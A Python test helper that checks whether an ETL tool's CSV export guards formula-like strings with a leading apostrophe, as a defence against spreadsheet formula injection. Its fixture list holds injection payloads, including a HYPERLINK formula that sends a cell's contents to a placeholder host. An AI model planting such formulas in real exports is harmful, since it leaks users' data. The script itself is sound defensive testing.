#!/usr/bin/env python3
"""csvformula.py MODE FILE COLUMN... - checks the string cells of an etldump
output made from mkedge's formula trace (tests/edge.sh).

MODE is `guarded` (CSV as etldump writes it by default: a string that a
spreadsheet would take for a formula has an apostrophe first), `kept` (CSV
with --csv-formulas: every string as it is) or `json` (JSON Lines: every
string as it is). FILE is read with Python's csv module (or json), a
consumer other than etldump's own code. Every non-empty cell of the named
columns must be one of the trace's strings as MODE writes it (or Idle, the
idle process), and each of the strings must turn up. Prints what differs
and exits 1; exits 0 when all holds.
"""
import csv
import json
import sys

# The strings mkedge's formula case gives each process's image, command
# line and thread name, in its order.
STRINGS = [
    '=HYPERLINK("http://x.test/?"&A1,"open")', "+1+2", "-3+4", "@SUM(1)", "\tTab",
    "\rCr", "\uff1d1", "\uff20x", "\uff0b2", "\uff0d3",
    "a=b", " sp", "plain", "\uff21A",
]

# What a spreadsheet takes for the start of a formula (OWASP, CWE-1236):
# =, +, -, @, tab, CR and their full-width forms.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def written(s, mode):
    if mode == "guarded" and s.startswith(FORMULA_START):
        return "'" + s
    return s


def rows(mode, path):
    with open(path, newline="", encoding="utf-8") as f:
        if mode == "json":
            for line in f:
                yield json.loads(line)
        else:
            yield from csv.DictReader(f)


def main():
    if len(sys.argv) < 4 or sys.argv[1] not in ("guarded", "kept", "json"):
        print(__doc__.strip().splitlines()[0], file=sys.stderr)
        return 2
    mode, path, cols = sys.argv[1], sys.argv[2], sys.argv[3:]
    want = {written(s, mode): s for s in STRINGS}
    seen, bad = set(), []
    for n, row in enumerate(rows(mode, path), start=2):
        for c in cols:
            if mode != "json" and c not in row:
                print(f"{path}: no column {c}")
                return 1
            v = row.get(c)
            if v is None or v == "" or v == "Idle":
                continue
            if v in want:
                seen.add(want[v])
            else:
                bad.append(f"row {n} {c}: {v!r}")
    missing = [s for s in STRINGS if s not in seen]
    for b in bad[:5]:
        print(f"{path}: unexpected {b}")
    for s in missing[:5]:
        print(f"{path}: {written(s, mode)!r} not found in {', '.join(cols)}")
    return 1 if bad or missing else 0


if __name__ == "__main__":
    sys.exit(main())
